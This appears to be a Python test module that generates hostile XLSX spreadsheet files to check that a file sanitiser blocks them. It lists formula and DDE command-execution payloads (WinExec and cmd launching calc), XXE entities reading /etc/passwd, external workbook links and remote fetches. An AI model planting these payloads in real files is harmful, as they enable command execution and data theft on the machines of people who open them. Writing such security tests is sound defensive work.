"""Hostile files that reach out of themselves: for each, a port of this machine that must hear nothing of it."""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from pathlib import Path

from attacks import SHEET, Attack, in_sheet, replacing_in, with_part

WORKBOOK = "xl/workbook.xml"
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"

FORMULAS = {
    "WEBSERVICE": '_xlfn.WEBSERVICE("{url}")',
    "WEBSERVICE of a cell": "_xlfn.WEBSERVICE(A1)",
    "FILTERXML": '_xlfn.FILTERXML(_xlfn.WEBSERVICE("{url}"),"//a")',
    "RTD": 'RTD("prog.id","127.0.0.1","{url}")',
    "DDE": 'DDE("soffice","{url}","A1")',
    "a DDE link": "soffice|'{url}'!A1",
    "IMAGE": '_xlfn.IMAGE("{url}/x.png")',
    "IMPORTDATA": 'IMPORTDATA("{url}")',
    "STOCKHISTORY": 'STOCKHISTORY("MSFT",1)',
    "a cube": 'CUBEVALUE("{url}","[a]")',
    "INDIRECT to the network": "INDIRECT(\"'{url}/x.csv'#$a.A1\")",
    "INDIRECT, joined": 'INDIRECT("\'ht"&"tp://127.0.0.1"&CHAR(58)&"1/x.csv\'#$a.A1")',
    "INDIRECT by another name": "LET(f,INDIRECT,f(A1))",
    "another workbook": "'{url}/[x.xlsx]S'!A1",
    "another workbook, by number": "[1]S!A1",
    "a file of this machine": "'file:///etc/passwd'#$a.A1",
    "a share": r"'\\127.0.0.1\x\[x.xlsx]S'!A1",
    "a call into a library": 'CALL("kernel32","WinExec","JCJ","calc",0)',
    "a registered library": 'REGISTER.ID("{url}","x")',
    "EVALUATE": 'EVALUATE("1+1")',
    "EXEC": 'EXEC("calc")',
    "a command": "cmd|'/c calc'!A0",
    "a query of a database": 'SQL.REQUEST("DSN={url}",,,"select 1")',
    "a translation": 'TRANSLATE("a","en","{url}")',
    "Python in a cell": '_xlws.PY(0,1,"{url}")',
    "what the machine is": 'INFO("directory")&CELL("filename")',
}
"""Formulas that fetch, start something, or ask about the machine."""

Reaching = Callable[[str], Attack]
"""An attack of an address."""


def _formula(text: str) -> Reaching:
    def attack(url: str) -> Attack:
        return in_sheet(
            b'<row r="999"><c r="A999" t="str"><v>%s</v></c><c r="D999"><f>%s</f><v>1</v></c></row>'
            % (url.encode(), escape(text.replace("{url}", url)).encode())
        )

    return attack


def _after_cells(xml: str) -> Reaching:
    return lambda url: replacing_in(SHEET, b"</sheetData>", b"</sheetData>" + xml.replace("{url}", url).encode())


def _name(text: str) -> Reaching:
    def attack(url: str) -> Attack:
        name = f'<definedName name="q">{escape(text.replace("{url}", url))}</definedName></definedNames>'
        return replacing_in(WORKBOOK, b"</definedNames>", name.encode())

    return attack


def _part(name: str, xml: str) -> Reaching:
    return lambda url: with_part(name, HEAD + xml.replace("{url}", url).encode())


def _related(owner: str, kind: str, target: str = "{url}/x", mode: str = ' TargetMode="External"') -> Reaching:
    """Give a part a relation to what lies outside."""
    folder, _slash, base = owner.rpartition("/")
    return _part(
        f"{folder}/_rels/{base}.rels" if folder else f"_rels/{base}.rels",
        f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>',
    )


def _all(*attacks: Reaching) -> Reaching:
    def attack(url: str) -> Attack:
        def spoil(path: Path) -> None:
            for each in attacks:
                each(url)(path)

        return spoil

    return attack


def _started_with(head: str, part: str = "xl/sharedStrings.xml") -> Reaching:
    """Put something before a part's first element."""

    def attack(url: str) -> Attack:
        text = head.replace("{url}", url).encode()
        return with_part(part, HEAD + text + f'<sst xmlns="{MAIN}"><si><t>&#120;</t></si></sst>'.encode())

    return attack


FETCHED = f'<worksheet xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheetData/><picture r:id="rId99"/></worksheet>'
REFUSED: dict[str, Reaching] = {
    **{name: _formula(text) for name, text in FORMULAS.items() if name != "what the machine is"},
    "a name that fetches": _name('WEBSERVICE("{url}")'),
    "a name of another workbook": _name("'{url}/[x.xlsx]S'!$A$1"),
    "a conditional format that fetches": _after_cells(
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("{url}")=1</formula></cfRule></conditionalFormatting>'
    ),
    "a validation that fetches": _after_cells(
        '<dataValidations><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE("{url}")</formula1></dataValidation></dataValidations>'
    ),
    "an extension's formula": _after_cells(
        '<extLst><ext><x:cf xmlns:x="x" xmlns:xm="xm"><xm:f>WEBSERVICE("{url}")</xm:f></x:cf></ext></extLst>'
    ),
    "a sparkline of another workbook": _after_cells(
        "<extLst><ext><x:sparkline xmlns:x='x' xmlns:xm='xm'><xm:f>[1]S!A1:A9</xm:f></x:sparkline></ext></extLst>"
    ),
    "a chart of another workbook": _part("xl/charts/chart9.xml", '<c:c xmlns:c="c"><c:f>\'{url}/[x.xlsx]S\'!A1</c:f></c:c>'),
    "a chart's own data elsewhere": _related("xl/charts/chart9.xml", "externalLinkPath"),
    "a picture by its address": _related("xl/drawings/drawing1.xml", "image"),
    "a background by its address": _all(_part(SHEET, FETCHED), _related(SHEET, "image")),
    "an external link": _part("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
    "an external link by OLE": _part("xl/externalLinks/externalLink1.xml", '<externalLink><oleLink progId="Excel.Sheet"/></externalLink>'),
    "a sheet from the network": _related(WORKBOOK, "worksheet"),
    "strings from the network": _related(WORKBOOK, "sharedStrings"),
    "a theme from the network": _related("xl/theme/theme1.xml", "image", "file:////127.0.0.1/share/x.png"),
    "a frame from the network": _related("xl/worksheets/sheet3.xml", "oleObject", r"\\127.0.0.1\share\x"),
    "an add-in from the network": _related("x", "taskpanes"),
    "properties from the network": _related("docProps/core.xml", "thumbnail"),
    "a pivot table's source elsewhere": _related("xl/pivotCache/pivotCacheDefinition1.xml", "externalLinkPath"),
    "a consolidation elsewhere": _all(
        _after_cells(f'<dataConsolidate><dataRefs><dataRef r:id="rId99" xmlns:r="{OFFICE}"/></dataRefs></dataConsolidate>'),
        _related(SHEET, "externalLinkPath"),
    ),
    "data connections": _part(
        "xl/connections.xml", f'<connections xmlns="{MAIN}"><connection id="1" type="4" refreshOnLoad="1"><webPr url="{{url}}"/></connection></connections>'
    ),
    "a web query": _part("xl/queryTables/queryTable1.xml", '<queryTable refreshOnLoad="1" connectionId="1"/>'),
    "a data model": _part("xl/model/item.data", "<x/>"),
    "macros": _part("xl/vbaProject.bin", ""),
    "macros of the old kind": _part("xl/macrosheets/sheet1.xml", '<xm:macrosheet xmlns:xm="x"><f>EXEC("calc")</f></xm:macrosheet>'),
    "a dialogue": _part("xl/dialogsheets/sheet1.xml", "<dialogsheet/>"),
    "an embedded object": _part("xl/embeddings/oleObject1.bin", "x"),
    "ActiveX": _part("xl/activeX/activeX1.xml", "<ax/>"),
    "a web extension": _part("xl/webextensions/webextension1.xml", "<we/>"),
    "an entity of the network": _started_with('<!DOCTYPE s [<!ENTITY x SYSTEM "{url}/x">]>'),
    "an entity of this machine": _started_with('<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "a type of the network": _started_with('<!DOCTYPE s SYSTEM "{url}/x.dtd">'),
    "a parameter of the network": _started_with('<!DOCTYPE s [<!ENTITY % p SYSTEM "{url}/x"> %p;]>'),
}  # fmt: skip
"""What `check` refuses before an engine sees it."""

IGNORED: dict[str, Reaching] = {
    "what the machine is": _formula(FORMULAS["what the machine is"]),
    "a link to click": _formula('HYPERLINK("{url}","click")'),
    "a link of a cell": _all(
        _after_cells(f'<hyperlinks><hyperlink ref="A1" r:id="rId99" xmlns:r="{OFFICE}"/></hyperlinks>'),
        _related(SHEET, "hyperlink"),
    ),
    "a style sheet": _started_with('<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>'),
    "an inclusion": _after_cells('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/x"/>'),
    "a schema's place": _after_cells('<ignoredErrors xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x {url}/x.xsd"/>'),
    "a space of names": _after_cells('<ignoredErrors xmlns:q="{url}/x"/>'),
    "a pivot table that refreshes": _part(
        "xl/pivotCache/pivotCacheDefinition1.xml",
        f'<pivotCacheDefinition xmlns="{MAIN}" refreshOnLoad="1"><cacheSource type="worksheet"><worksheetSource ref="A1:B9" sheet="S"/></cacheSource></pivotCacheDefinition>',
    ),
    "a relation that does not say it leads out": _related("xl/drawings/drawing1.xml", "image", mode=""),
    "a sheet that does not say it lies outside": _related("xl/worksheets/sheet9.xml", "worksheet", mode=""),
    "what another program keeps": _part("customXml/item1.xml", '<a href="{url}/x"/>'),
}  # fmt: skip
"""What nothing follows of its own accord; what a command says of the file matters less."""
